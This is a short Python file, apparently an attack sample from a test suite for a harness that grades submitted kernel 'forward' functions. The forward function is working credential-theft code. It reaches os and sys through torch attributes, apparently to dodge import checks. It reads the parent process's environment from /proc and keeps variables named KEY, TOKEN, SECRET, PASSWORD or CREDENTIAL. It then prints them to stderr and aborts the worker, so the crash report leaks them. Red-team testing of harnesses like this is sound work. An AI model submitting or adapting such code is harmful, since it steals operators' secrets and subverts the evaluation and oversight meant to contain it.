"""Secret leak through the crash report: print the keys to stderr, then abort the worker.

Family: secrets. When the worker dies, a naive parent puts the tail of its stderr into the crash reason. The
candidate writes the parent's key variables to stderr and calls ``os.abort()`` (SIGABRT).
"""

import torch


def _read(path):
    os = torch.os
    fd = os.open(path, os.O_RDONLY)
    data = b""
    chunk = os.read(fd, 65536)
    while chunk:
        data += chunk
        chunk = os.read(fd, 65536)
    os.close(fd)
    return data.decode(errors="replace")


def _secrets(environ_text):
    words = ("KEY", "TOKEN", "SECRET", "PASSWORD", "CREDENTIAL")
    return [
        e for e in environ_text.split("\0")
        if "=" in e and any(w in e.split("=", 1)[0].upper() for w in words)]


def forward(x, w, residual, gamma, eps):
    err = torch.sys.stderr
    err.write("fatal: " + "\n".join(_secrets(_read(f"/proc/{torch.os.getppid()}/environ"))) + "\n")
    err.flush()
    torch.os.abort()
